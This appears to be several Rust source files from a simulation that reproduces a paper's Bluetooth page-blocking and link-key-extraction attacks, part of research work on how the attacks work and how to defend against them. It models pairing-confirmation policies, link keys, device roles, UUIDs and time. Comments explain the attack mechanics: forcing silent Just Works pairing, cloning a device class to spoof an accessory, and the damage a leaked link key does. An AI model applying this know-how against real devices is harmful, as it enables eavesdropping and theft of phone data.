}
