//! Fig 7: the confirmation-popup policy for SSP Authentication Stage 1,
//! in both specification generations.
//!
//! The association *model* itself (Numeric Comparison / Just Works /
//! Passkey Entry) is pure spec logic and lives in
//! [`blap_types::AssociationModel::select`]. What this module adds is the
//! part that varies by implementation generation and role — whether a human
//! ever sees a popup — which is exactly the surface the page blocking
//! attack's downgrade step navigates:
//!
//! * **v4.2 and lower**: nothing mandates a popup; implementations
//!   auto-confirm Just Works when acting as the pairing *initiator* and ask
//!   a bare yes/no when acting as the responder.
//! * **v5.0 and higher**: DisplayYesNo devices must show a yes/no popup
//!   even for Just Works — but the popup carries no numeric value, so the
//!   user cannot distinguish the attacker from the accessory (§V-B2).

use blap_types::{AssociationModel, IoCapability, Role, SpecGeneration};

/// What the host does with an `HCI_User_Confirmation_Request`.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum ConfirmationPolicy {
    /// Confirm silently — no user involvement at all.
    AutoConfirm,
    /// Show a yes/no popup *without* the numeric value (Just Works under a
    /// popup-mandating generation, or responder-side Just Works).
    YesNoPopup,
    /// Show the six-digit value and ask for comparison (genuine Numeric
    /// Comparison, or Passkey Entry's display side).
    NumericPopup,
}

impl ConfirmationPolicy {
    /// Whether the user can actually detect a MITM from this popup: only
    /// the numeric popup carries comparable evidence.
    pub fn user_can_detect_mitm(self) -> bool {
        self == ConfirmationPolicy::NumericPopup
    }
}

/// Decides the confirmation policy for one side of a pairing.
///
/// * `generation` — the local implementation's spec generation,
/// * `own_io` — the local IO capability,
/// * `model` — the association model already selected from both IO caps,
/// * `pairing_role` — whether the local side initiated pairing.
pub fn confirmation_policy(
    generation: SpecGeneration,
    own_io: IoCapability,
    model: AssociationModel,
    pairing_role: Role,
) -> ConfirmationPolicy {
    match model {
        AssociationModel::NumericComparison => ConfirmationPolicy::NumericPopup,
        AssociationModel::PasskeyEntry => ConfirmationPolicy::NumericPopup,
        AssociationModel::OutOfBand => ConfirmationPolicy::AutoConfirm,
        AssociationModel::JustWorks => {
            if !own_io.has_input() {
                // Nothing to ask the user with.
                return ConfirmationPolicy::AutoConfirm;
            }
            match generation {
                SpecGeneration::V42OrLower => match pairing_role {
                    // The silent-pairing path the paper highlights: a 4.2-
                    // initiator auto-confirms Just Works.
                    Role::Initiator => ConfirmationPolicy::AutoConfirm,
                    Role::Responder => ConfirmationPolicy::YesNoPopup,
                },
                // v5.0 mandates the popup on DisplayYesNo devices — but
                // without the confirmation value.
                SpecGeneration::V50OrHigher => ConfirmationPolicy::YesNoPopup,
            }
        }
    }
}

/// One cell of the Fig 7 matrix, for rendering the figure.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Fig7Cell {
    /// Initiator (device A) capability.
    pub initiator_io: IoCapability,
    /// Responder (device B) capability.
    pub responder_io: IoCapability,
    /// Selected association model.
    pub model: AssociationModel,
    /// What the initiator's UI does.
    pub initiator_policy: ConfirmationPolicy,
    /// What the responder's UI does.
    pub responder_policy: ConfirmationPolicy,
}

/// Computes the full initiator × responder matrix for one generation —
/// the data behind the paper's Fig 7 (which displays the DisplayYesNo /
/// NoInputNoOutput corner).
pub fn fig7_matrix(generation: SpecGeneration) -> Vec<Fig7Cell> {
    let mut cells = Vec::with_capacity(16);
    for initiator_io in IoCapability::ALL {
        for responder_io in IoCapability::ALL {
            let model = AssociationModel::select(initiator_io, responder_io);
            cells.push(Fig7Cell {
                initiator_io,
                responder_io,
                model,
                initiator_policy: confirmation_policy(
                    generation,
                    initiator_io,
                    model,
                    Role::Initiator,
                ),
                responder_policy: confirmation_policy(
                    generation,
                    responder_io,
                    model,
                    Role::Responder,
                ),
            });
        }
    }
    cells
}

#[cfg(test)]
mod tests {
    use super::*;

    fn cell(generation: SpecGeneration, a: IoCapability, b: IoCapability) -> Fig7Cell {
        fig7_matrix(generation)
            .into_iter()
            .find(|c| c.initiator_io == a && c.responder_io == b)
            .expect("matrix covers all pairs")
    }

    #[test]
    fn both_display_yes_no_is_numeric_comparison_everywhere() {
        for generation in [SpecGeneration::V42OrLower, SpecGeneration::V50OrHigher] {
            let c = cell(
                generation,
                IoCapability::DisplayYesNo,
                IoCapability::DisplayYesNo,
            );
            assert_eq!(c.model, AssociationModel::NumericComparison);
            assert_eq!(c.initiator_policy, ConfirmationPolicy::NumericPopup);
            assert_eq!(c.responder_policy, ConfirmationPolicy::NumericPopup);
        }
    }

    #[test]
    fn fig7a_v42_initiator_auto_confirms_against_noio() {
        // Fig 7a, top-right cell: DisplayYesNo responder, NoInputNoOutput
        // initiator... and the transpose. On 4.2- the DisplayYesNo side
        // auto-confirms when it *initiates* — the silent pairing.
        let c = cell(
            SpecGeneration::V42OrLower,
            IoCapability::DisplayYesNo,
            IoCapability::NoInputNoOutput,
        );
        assert_eq!(c.model, AssociationModel::JustWorks);
        assert_eq!(c.initiator_policy, ConfirmationPolicy::AutoConfirm);
        assert_eq!(c.responder_policy, ConfirmationPolicy::AutoConfirm);
    }

    #[test]
    fn fig7a_v42_responder_asks_yes_no() {
        let c = cell(
            SpecGeneration::V42OrLower,
            IoCapability::NoInputNoOutput,
            IoCapability::DisplayYesNo,
        );
        assert_eq!(c.model, AssociationModel::JustWorks);
        assert_eq!(c.initiator_policy, ConfirmationPolicy::AutoConfirm);
        assert_eq!(c.responder_policy, ConfirmationPolicy::YesNoPopup);
    }

    #[test]
    fn fig7b_v50_mandates_popup_both_roles() {
        for (a, b) in [
            (IoCapability::DisplayYesNo, IoCapability::NoInputNoOutput),
            (IoCapability::NoInputNoOutput, IoCapability::DisplayYesNo),
        ] {
            let c = cell(SpecGeneration::V50OrHigher, a, b);
            assert_eq!(c.model, AssociationModel::JustWorks);
            let display_side_policy = if a == IoCapability::DisplayYesNo {
                c.initiator_policy
            } else {
                c.responder_policy
            };
            assert_eq!(display_side_policy, ConfirmationPolicy::YesNoPopup);
            // And the popup carries no comparable value — the user cannot
            // detect the MITM.
            assert!(!display_side_policy.user_can_detect_mitm());
        }
    }

    #[test]
    fn noio_devices_always_auto_confirm() {
        for generation in [SpecGeneration::V42OrLower, SpecGeneration::V50OrHigher] {
            for role in [Role::Initiator, Role::Responder] {
                assert_eq!(
                    confirmation_policy(
                        generation,
                        IoCapability::NoInputNoOutput,
                        AssociationModel::JustWorks,
                        role
                    ),
                    ConfirmationPolicy::AutoConfirm
                );
            }
        }
    }

    #[test]
    fn only_numeric_popup_detects_mitm() {
        assert!(ConfirmationPolicy::NumericPopup.user_can_detect_mitm());
        assert!(!ConfirmationPolicy::YesNoPopup.user_can_detect_mitm());
        assert!(!ConfirmationPolicy::AutoConfirm.user_can_detect_mitm());
    }

    #[test]
    fn matrix_is_complete() {
        assert_eq!(fig7_matrix(SpecGeneration::V42OrLower).len(), 16);
        assert_eq!(fig7_matrix(SpecGeneration::V50OrHigher).len(), 16);
    }
}
