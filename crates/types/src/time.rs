//! Virtual time for the discrete-event simulation.
//!
//! All simulated components share a microsecond-resolution virtual clock.
//! The BR/EDR slot (625 µs) is the natural unit of baseband procedures.

use std::fmt;
use std::ops::{Add, AddAssign, Sub};

use serde::{Deserialize, Serialize};

/// A span of virtual time, in microseconds.
#[derive(
    Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize, Default,
)]
pub struct Duration(u64);

/// One BR/EDR baseband slot: 625 µs.
pub const SLOT: Duration = Duration(625);

impl Duration {
    /// Zero-length duration.
    pub const ZERO: Duration = Duration(0);

    /// Creates a duration from microseconds.
    pub const fn from_micros(us: u64) -> Self {
        Duration(us)
    }

    /// Creates a duration from milliseconds.
    pub const fn from_millis(ms: u64) -> Self {
        Duration(ms * 1_000)
    }

    /// Creates a duration from seconds.
    pub const fn from_secs(s: u64) -> Self {
        Duration(s * 1_000_000)
    }

    /// Creates a duration from baseband slots (625 µs each).
    pub const fn from_slots(slots: u64) -> Self {
        Duration(slots * 625)
    }

    /// The duration in whole microseconds.
    pub const fn as_micros(self) -> u64 {
        self.0
    }

    /// The duration in whole milliseconds (truncating).
    pub const fn as_millis(self) -> u64 {
        self.0 / 1_000
    }

    /// The duration in whole slots (truncating).
    pub const fn as_slots(self) -> u64 {
        self.0 / 625
    }

    /// Saturating subtraction.
    pub fn saturating_sub(self, rhs: Duration) -> Duration {
        Duration(self.0.saturating_sub(rhs.0))
    }

    /// Scales the duration by an integer factor.
    pub const fn mul(self, factor: u64) -> Duration {
        Duration(self.0 * factor)
    }
}

impl Add for Duration {
    type Output = Duration;
    fn add(self, rhs: Duration) -> Duration {
        Duration(self.0 + rhs.0)
    }
}

impl AddAssign for Duration {
    fn add_assign(&mut self, rhs: Duration) {
        self.0 += rhs.0;
    }
}

impl Sub for Duration {
    type Output = Duration;
    fn sub(self, rhs: Duration) -> Duration {
        Duration(self.0 - rhs.0)
    }
}

impl fmt::Display for Duration {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        if self.0 >= 1_000_000 {
            write!(f, "{:.3}s", self.0 as f64 / 1_000_000.0)
        } else if self.0 >= 1_000 {
            write!(f, "{:.3}ms", self.0 as f64 / 1_000.0)
        } else {
            write!(f, "{}µs", self.0)
        }
    }
}

/// A point in virtual time, measured from the start of the simulation.
#[derive(
    Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize, Default,
)]
pub struct Instant(u64);

impl Instant {
    /// The simulation epoch.
    pub const EPOCH: Instant = Instant(0);

    /// Creates an instant from microseconds since the epoch.
    pub const fn from_micros(us: u64) -> Self {
        Instant(us)
    }

    /// Microseconds since the epoch.
    pub const fn as_micros(self) -> u64 {
        self.0
    }

    /// Elapsed time since `earlier`.
    ///
    /// # Panics
    ///
    /// Panics if `earlier` is later than `self`.
    pub fn duration_since(self, earlier: Instant) -> Duration {
        Duration(
            self.0
                .checked_sub(earlier.0)
                .expect("duration_since: earlier instant is in the future"),
        )
    }
}

impl Add<Duration> for Instant {
    type Output = Instant;
    fn add(self, rhs: Duration) -> Instant {
        Instant(self.0 + rhs.0)
    }
}

impl AddAssign<Duration> for Instant {
    fn add_assign(&mut self, rhs: Duration) {
        self.0 += rhs.0;
    }
}

impl Sub<Instant> for Instant {
    type Output = Duration;
    fn sub(self, rhs: Instant) -> Duration {
        self.duration_since(rhs)
    }
}

impl fmt::Display for Instant {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "t+{}", Duration(self.0))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn slot_is_625_micros() {
        assert_eq!(SLOT.as_micros(), 625);
        assert_eq!(Duration::from_slots(2).as_micros(), 1250);
        assert_eq!(Duration::from_millis(10).as_slots(), 16);
    }

    #[test]
    fn arithmetic() {
        let t = Instant::EPOCH + Duration::from_millis(5);
        assert_eq!(t.as_micros(), 5_000);
        assert_eq!(t - Instant::EPOCH, Duration::from_millis(5));
        assert_eq!(
            Duration::from_secs(1) - Duration::from_millis(200),
            Duration::from_millis(800)
        );
        assert_eq!(
            Duration::from_millis(1).saturating_sub(Duration::from_secs(1)),
            Duration::ZERO
        );
    }

    #[test]
    fn display_scales_units() {
        assert_eq!(Duration::from_micros(5).to_string(), "5µs");
        assert_eq!(Duration::from_millis(2).to_string(), "2.000ms");
        assert_eq!(Duration::from_secs(3).to_string(), "3.000s");
    }

    #[test]
    #[should_panic(expected = "duration_since")]
    fn duration_since_panics_when_reversed() {
        let early = Instant::EPOCH;
        let late = early + SLOT;
        let _ = early.duration_since(late);
    }
}
