//! Error types for the domain vocabulary.

use std::error::Error;
use std::fmt;

/// Error returned when parsing a textual `BD_ADDR` fails.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ParseAddrError {
    input: String,
}

impl ParseAddrError {
    pub(crate) fn new(input: &str) -> Self {
        ParseAddrError {
            input: input.to_owned(),
        }
    }

    /// The offending input.
    pub fn input(&self) -> &str {
        &self.input
    }
}

impl fmt::Display for ParseAddrError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "invalid bluetooth address {:?}, expected aa:bb:cc:dd:ee:ff",
            self.input
        )
    }
}

impl Error for ParseAddrError {}

/// Error returned when parsing a hex link key fails.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ParseKeyError {
    len: usize,
}

impl ParseKeyError {
    pub(crate) fn new(len: usize) -> Self {
        ParseKeyError { len }
    }
}

impl fmt::Display for ParseKeyError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "invalid link key, expected 32 hex characters, got {} characters or non-hex input",
            self.len
        )
    }
}

impl Error for ParseKeyError {}

/// A general-purpose validation error for the smaller domain types.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TypeError {
    message: String,
}

impl TypeError {
    /// Creates an error with the given message.
    pub fn new(message: impl Into<String>) -> Self {
        TypeError {
            message: message.into(),
        }
    }
}

impl fmt::Display for TypeError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.message)
    }
}

impl Error for TypeError {}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn errors_render_lowercase_messages() {
        let err = ParseAddrError::new("junk");
        assert!(err.to_string().starts_with("invalid bluetooth address"));
        assert_eq!(err.input(), "junk");
        let err = ParseKeyError::new(3);
        assert!(err.to_string().contains("32 hex characters"));
        let err = TypeError::new("boom");
        assert_eq!(err.to_string(), "boom");
    }

    #[test]
    fn errors_are_send_sync() {
        fn assert_send_sync<T: Send + Sync>() {}
        assert_send_sync::<ParseAddrError>();
        assert_send_sync::<ParseKeyError>();
        assert_send_sync::<TypeError>();
    }
}
