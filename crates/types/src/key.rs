//! Link keys — the long-term shared secret at the heart of both BLAP attacks.

use std::fmt;
use std::str::FromStr;

use serde::{Deserialize, Serialize};

use crate::error::ParseKeyError;

/// A 128-bit Bluetooth link key.
///
/// The link key is derived during pairing (for Secure Simple Pairing, from
/// the ECDH shared secret via the `f2` function) and is the *only* secret
/// input to LMP authentication and encryption key generation. Bonded devices
/// store it indefinitely, which is exactly why the paper's link key
/// extraction attack is so damaging: one leaked key breaks every past and
/// future session of that bond.
///
/// Bytes are stored in the order the key is conventionally displayed
/// (e.g. in `bt_config.conf`). HCI carries keys little-endian on the wire;
/// convert with [`LinkKey::to_le_bytes`] / [`LinkKey::from_le_bytes`].
///
/// # Examples
///
/// ```
/// use blap_types::LinkKey;
///
/// let key: LinkKey = "71a70981f30d6af9e20adee8aafe3264".parse()?;
/// assert_eq!(key.to_hex(), "71a70981f30d6af9e20adee8aafe3264");
/// # Ok::<(), blap_types::ParseKeyError>(())
/// ```
#[derive(Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize, Default)]
pub struct LinkKey([u8; 16]);

impl LinkKey {
    /// Creates a key from bytes in display order.
    pub const fn new(bytes: [u8; 16]) -> Self {
        LinkKey(bytes)
    }

    /// Creates a key from bytes in HCI wire (little-endian) order.
    pub fn from_le_bytes(bytes: [u8; 16]) -> Self {
        let mut b = bytes;
        b.reverse();
        LinkKey(b)
    }

    /// Returns the bytes in display order.
    pub const fn to_bytes(self) -> [u8; 16] {
        self.0
    }

    /// Returns the bytes in HCI wire (little-endian) order.
    pub fn to_le_bytes(self) -> [u8; 16] {
        let mut b = self.0;
        b.reverse();
        b
    }

    /// Lower-case hex rendering in display order, as used by
    /// `bt_config.conf` and the paper's figures.
    pub fn to_hex(self) -> String {
        self.0.iter().map(|b| format!("{b:02x}")).collect()
    }
}

impl fmt::Display for LinkKey {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.to_hex())
    }
}

impl fmt::Debug for LinkKey {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        // Keys are secrets; full value printed only via Display/to_hex on
        // purpose. Debug shows a fingerprint so accidental logging of whole
        // structs does not leak the key — the simulation's *attack* code
        // always goes through `to_hex`, which is the point of the exercise.
        write!(
            f,
            "LinkKey({:02x}{:02x}..{:02x})",
            self.0[0], self.0[1], self.0[15]
        )
    }
}

impl FromStr for LinkKey {
    type Err = ParseKeyError;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        if s.len() != 32 || !s.is_ascii() {
            return Err(ParseKeyError::new(s.len()));
        }
        let mut bytes = [0u8; 16];
        for (i, dst) in bytes.iter_mut().enumerate() {
            *dst = u8::from_str_radix(&s[2 * i..2 * i + 2], 16)
                .map_err(|_| ParseKeyError::new(s.len()))?;
        }
        Ok(LinkKey(bytes))
    }
}

impl From<[u8; 16]> for LinkKey {
    fn from(bytes: [u8; 16]) -> Self {
        LinkKey::new(bytes)
    }
}

impl From<LinkKey> for [u8; 16] {
    fn from(key: LinkKey) -> Self {
        key.to_bytes()
    }
}

impl AsRef<[u8]> for LinkKey {
    fn as_ref(&self) -> &[u8] {
        &self.0
    }
}

/// The link key type reported by `HCI_Link_Key_Notification`.
///
/// The BLAP testbed devices all negotiate Secure Simple Pairing, so the
/// simulation produces [`LinkKeyType::UnauthenticatedP256`] for Just Works
/// and [`LinkKeyType::AuthenticatedP256`] for Numeric Comparison — the same
/// distinction a downgrade defender could use (§VII-B of the paper).
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[repr(u8)]
pub enum LinkKeyType {
    /// Legacy combination key (pre-SSP pairing).
    Combination = 0x00,
    /// Unauthenticated key from P-192 SSP (Just Works).
    UnauthenticatedP192 = 0x04,
    /// Authenticated key from P-192 SSP (Numeric Comparison / Passkey).
    AuthenticatedP192 = 0x05,
    /// Key changed during an existing bond.
    Changed = 0x06,
    /// Unauthenticated key from P-256 SSP (Just Works).
    UnauthenticatedP256 = 0x07,
    /// Authenticated key from P-256 SSP (Numeric Comparison / Passkey).
    AuthenticatedP256 = 0x08,
}

impl LinkKeyType {
    /// True when the key was produced by an association model that defeats
    /// man-in-the-middle attackers (i.e. *not* Just Works).
    pub fn is_authenticated(self) -> bool {
        matches!(
            self,
            LinkKeyType::AuthenticatedP192 | LinkKeyType::AuthenticatedP256
        )
    }

    /// Decodes the HCI key-type octet.
    pub fn from_u8(v: u8) -> Option<Self> {
        Some(match v {
            0x00 => LinkKeyType::Combination,
            0x04 => LinkKeyType::UnauthenticatedP192,
            0x05 => LinkKeyType::AuthenticatedP192,
            0x06 => LinkKeyType::Changed,
            0x07 => LinkKeyType::UnauthenticatedP256,
            0x08 => LinkKeyType::AuthenticatedP256,
            _ => return None,
        })
    }
}

impl fmt::Display for LinkKeyType {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let s = match self {
            LinkKeyType::Combination => "combination",
            LinkKeyType::UnauthenticatedP192 => "unauthenticated (P-192)",
            LinkKeyType::AuthenticatedP192 => "authenticated (P-192)",
            LinkKeyType::Changed => "changed combination",
            LinkKeyType::UnauthenticatedP256 => "unauthenticated (P-256)",
            LinkKeyType::AuthenticatedP256 => "authenticated (P-256)",
        };
        f.write_str(s)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hex_round_trip_matches_paper_key() {
        // The fake bonding entry of Fig 10 uses this key.
        let key: LinkKey = "71a70981f30d6af9e20adee8aafe3264".parse().unwrap();
        assert_eq!(key.to_hex(), "71a70981f30d6af9e20adee8aafe3264");
        assert_eq!(key.to_string(), key.to_hex());
    }

    #[test]
    fn le_round_trip() {
        let key: LinkKey = "c4f16e949f04ee9c0fd6b10233 89c324"
            .replace(' ', "")
            .parse()
            .unwrap();
        assert_eq!(LinkKey::from_le_bytes(key.to_le_bytes()), key);
        // First display byte becomes last wire byte.
        assert_eq!(key.to_le_bytes()[15], 0xc4);
    }

    #[test]
    fn rejects_bad_hex() {
        assert!("short".parse::<LinkKey>().is_err());
        assert!("zz".repeat(16).parse::<LinkKey>().is_err());
        assert!("00".repeat(17).parse::<LinkKey>().is_err());
    }

    #[test]
    fn debug_does_not_print_full_key() {
        let key: LinkKey = "71a70981f30d6af9e20adee8aafe3264".parse().unwrap();
        let dbg = format!("{key:?}");
        assert!(!dbg.contains("aafe3264"), "Debug leaked the key: {dbg}");
    }

    #[test]
    fn key_type_codec() {
        for t in [
            LinkKeyType::Combination,
            LinkKeyType::UnauthenticatedP192,
            LinkKeyType::AuthenticatedP192,
            LinkKeyType::Changed,
            LinkKeyType::UnauthenticatedP256,
            LinkKeyType::AuthenticatedP256,
        ] {
            assert_eq!(LinkKeyType::from_u8(t as u8), Some(t));
        }
        assert_eq!(LinkKeyType::from_u8(0xff), None);
    }

    #[test]
    fn key_type_authentication_flag() {
        assert!(LinkKeyType::AuthenticatedP256.is_authenticated());
        assert!(!LinkKeyType::UnauthenticatedP256.is_authenticated());
        assert!(!LinkKeyType::Combination.is_authenticated());
    }
}
