//! Core Bluetooth BR/EDR domain types shared by every crate in the BLAP
//! reproduction.
//!
//! This crate deliberately contains no protocol logic: it defines the
//! vocabulary — device addresses, link keys, IO capabilities, class-of-device
//! words, virtual time — that the HCI layer, the simulated controller, the
//! host stack and the attack drivers all speak.
//!
//! # Examples
//!
//! ```
//! use blap_types::{BdAddr, LinkKey};
//!
//! let victim: BdAddr = "48:90:12:34:56:78".parse().unwrap();
//! assert_eq!(victim.to_string(), "48:90:12:34:56:78");
//!
//! let key: LinkKey = "71a70981f30d6af9e20adee8aafe3264".parse().unwrap();
//! assert_eq!(key.to_hex(), "71a70981f30d6af9e20adee8aafe3264");
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

mod bdaddr;
mod cod;
mod device;
mod error;
mod handle;
mod io;
mod key;
mod time;
mod version;

pub use bdaddr::BdAddr;
pub use cod::{ClassOfDevice, MajorDeviceClass, ServiceClass};
pub use device::{DeviceName, Role, ServiceUuid};
pub use error::{ParseAddrError, ParseKeyError, TypeError};
pub use handle::{ConnectionHandle, LtAddr};
pub use io::{AssociationModel, AuthRequirements, IoCapability};
pub use key::{LinkKey, LinkKeyType};
pub use time::{Duration, Instant, SLOT};
pub use version::{BtVersion, SpecGeneration};
