//! Device names, piconet roles and service UUIDs.

use std::fmt;
use std::str::FromStr;

use serde::{Deserialize, Serialize};

/// A human-readable Bluetooth device name (up to 248 UTF-8 bytes).
#[derive(Clone, PartialEq, Eq, Hash, Serialize, Deserialize, Default)]
pub struct DeviceName(String);

impl DeviceName {
    /// Creates a device name, truncating to the 248-byte limit the spec
    /// imposes on the remote-name field.
    pub fn new(name: impl Into<String>) -> Self {
        let mut name = name.into();
        if name.len() > 248 {
            // Truncate on a char boundary at or below 248 bytes.
            let mut cut = 248;
            while !name.is_char_boundary(cut) {
                cut -= 1;
            }
            name.truncate(cut);
        }
        DeviceName(name)
    }

    /// The name as a string slice.
    pub fn as_str(&self) -> &str {
        &self.0
    }
}

impl fmt::Display for DeviceName {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

impl fmt::Debug for DeviceName {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "DeviceName({:?})", self.0)
    }
}

impl From<&str> for DeviceName {
    fn from(s: &str) -> Self {
        DeviceName::new(s)
    }
}

impl From<String> for DeviceName {
    fn from(s: String) -> Self {
        DeviceName::new(s)
    }
}

impl AsRef<str> for DeviceName {
    fn as_ref(&self) -> &str {
        self.as_str()
    }
}

/// Role of a device within a single procedure.
///
/// The paper's central observation (§V) is that the Bluetooth specification
/// never checks that the *connection* initiator and the *pairing* initiator
/// are the same device — the page blocking attack has the attacker take the
/// connection-initiator role while the victim takes the pairing-initiator
/// role.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum Role {
    /// The device that started the procedure (sent the page / the
    /// authentication request).
    Initiator,
    /// The device that answered.
    Responder,
}

impl Role {
    /// The opposite role.
    pub fn peer(self) -> Role {
        match self {
            Role::Initiator => Role::Responder,
            Role::Responder => Role::Initiator,
        }
    }
}

impl fmt::Display for Role {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Role::Initiator => f.write_str("initiator"),
            Role::Responder => f.write_str("responder"),
        }
    }
}

/// A 128-bit service UUID as stored in bonding records and SDP.
///
/// Short 16-bit assigned UUIDs (e.g. PANU `0x1115`, NAP `0x1116` — the
/// tethering profile the paper uses to validate extracted link keys) expand
/// onto the Bluetooth base UUID `0000xxxx-0000-1000-8000-00805f9b34fb`.
#[derive(Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub struct ServiceUuid(u128);

impl ServiceUuid {
    /// Personal Area Network user role (`0x1115`) — one of the two UUIDs in
    /// the paper's Fig 10 fake bonding record.
    pub const PANU: ServiceUuid = ServiceUuid::from_short(0x1115);
    /// Network access point role (`0x1116`) — the other Fig 10 UUID.
    pub const NAP: ServiceUuid = ServiceUuid::from_short(0x1116);
    /// Hands-Free profile (`0x111E`).
    pub const HANDS_FREE: ServiceUuid = ServiceUuid::from_short(0x111E);
    /// Phone Book Access server (`0x112F`) — the sensitive-data profile the
    /// paper's attacker ultimately targets.
    pub const PBAP_PSE: ServiceUuid = ServiceUuid::from_short(0x112F);
    /// Message Access server (`0x1132`).
    pub const MAP_MAS: ServiceUuid = ServiceUuid::from_short(0x1132);
    /// Service Discovery server (`0x1000`).
    pub const SDP_SERVER: ServiceUuid = ServiceUuid::from_short(0x1000);

    const BASE: u128 = 0x0000_0000_0000_1000_8000_0080_5f9b_34fb;

    /// Expands a 16-bit assigned number onto the Bluetooth base UUID.
    pub const fn from_short(short: u16) -> Self {
        ServiceUuid(Self::BASE | ((short as u128) << 96))
    }

    /// Creates a UUID from its raw 128-bit value.
    pub const fn from_u128(raw: u128) -> Self {
        ServiceUuid(raw)
    }

    /// The raw 128-bit value.
    pub const fn as_u128(self) -> u128 {
        self.0
    }

    /// The 16-bit assigned number when this UUID lies on the base UUID.
    pub fn short(self) -> Option<u16> {
        if self.0 & !(0xFFFF_u128 << 96) == Self::BASE && (self.0 >> 112) == 0 {
            Some(((self.0 >> 96) & 0xFFFF) as u16)
        } else {
            None
        }
    }
}

impl fmt::Display for ServiceUuid {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let v = self.0;
        write!(
            f,
            "{:08x}-{:04x}-{:04x}-{:04x}-{:012x}",
            (v >> 96) as u32,
            (v >> 80) as u16,
            (v >> 64) as u16,
            (v >> 48) as u16,
            v & 0xFFFF_FFFF_FFFF
        )
    }
}

impl fmt::Debug for ServiceUuid {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "ServiceUuid({self})")
    }
}

impl FromStr for ServiceUuid {
    type Err = crate::error::TypeError;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        let hex: String = s.chars().filter(|c| *c != '-').collect();
        if hex.len() != 32 {
            return Err(crate::error::TypeError::new(format!(
                "invalid UUID length in {s:?}"
            )));
        }
        let raw = u128::from_str_radix(&hex, 16)
            .map_err(|_| crate::error::TypeError::new(format!("invalid UUID hex in {s:?}")))?;
        Ok(ServiceUuid(raw))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn pan_uuids_match_fig10() {
        // Fig 10 lists these exact expanded UUIDs for the PAN profile.
        assert_eq!(
            ServiceUuid::PANU.to_string(),
            "00001115-0000-1000-8000-00805f9b34fb"
        );
        assert_eq!(
            ServiceUuid::NAP.to_string(),
            "00001116-0000-1000-8000-00805f9b34fb"
        );
    }

    #[test]
    fn short_uuid_round_trip() {
        assert_eq!(ServiceUuid::PANU.short(), Some(0x1115));
        assert_eq!(ServiceUuid::from_short(0x112F).short(), Some(0x112F));
        let custom = ServiceUuid::from_u128(0xdeadbeef_0000_1000_8000_00805f9b34fb);
        assert_eq!(custom.short(), None);
    }

    #[test]
    fn uuid_parses_from_string() {
        let parsed: ServiceUuid = "00001115-0000-1000-8000-00805f9b34fb".parse().unwrap();
        assert_eq!(parsed, ServiceUuid::PANU);
        assert!("bogus".parse::<ServiceUuid>().is_err());
    }

    #[test]
    fn device_name_truncates_to_248_bytes() {
        let long = "x".repeat(300);
        assert_eq!(DeviceName::new(long).as_str().len(), 248);
        // Multi-byte chars are not split.
        let multi = "é".repeat(200); // 400 bytes
        assert!(DeviceName::new(multi).as_str().len() <= 248);
    }

    #[test]
    fn role_peer_flips() {
        assert_eq!(Role::Initiator.peer(), Role::Responder);
        assert_eq!(Role::Responder.peer(), Role::Initiator);
    }
}
