//! Class-of-Device words.

use std::fmt;

use serde::{Deserialize, Serialize};

/// A 24-bit Class of Device / Service (CoD) word.
///
/// The CoD is broadcast in inquiry responses and tells remote UIs what icon
/// to draw and what services to expect. The paper's attacker clones the
/// victim accessory's CoD (Fig 8 changes a phone CoD `0x5A020C` to the
/// hands-free CoD `0x3C0404`) so the spoofed device *looks* identical in the
/// victim's pairing list.
///
/// Layout (Assigned Numbers):
/// * bits 23..13 — major service classes (bitmask),
/// * bits 12..8  — major device class,
/// * bits 7..2   — minor device class,
/// * bits 1..0   — format type (always `0b00`).
#[derive(Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize, Default)]
pub struct ClassOfDevice(u32);

impl ClassOfDevice {
    /// The smartphone CoD used by the paper's Nexus 5x before modification.
    pub const SMARTPHONE: ClassOfDevice = ClassOfDevice(0x5A020C);
    /// The hands-free/car-kit CoD the paper's attacker switches to (Fig 8).
    pub const HANDS_FREE: ClassOfDevice = ClassOfDevice(0x3C0404);
    /// A typical headset CoD.
    pub const HEADSET: ClassOfDevice = ClassOfDevice(0x240404);
    /// A desktop computer CoD.
    pub const COMPUTER: ClassOfDevice = ClassOfDevice(0x104104);

    /// Creates a CoD from a raw 24-bit word.
    ///
    /// The upper byte of the `u32` is masked off, matching how HCI carries
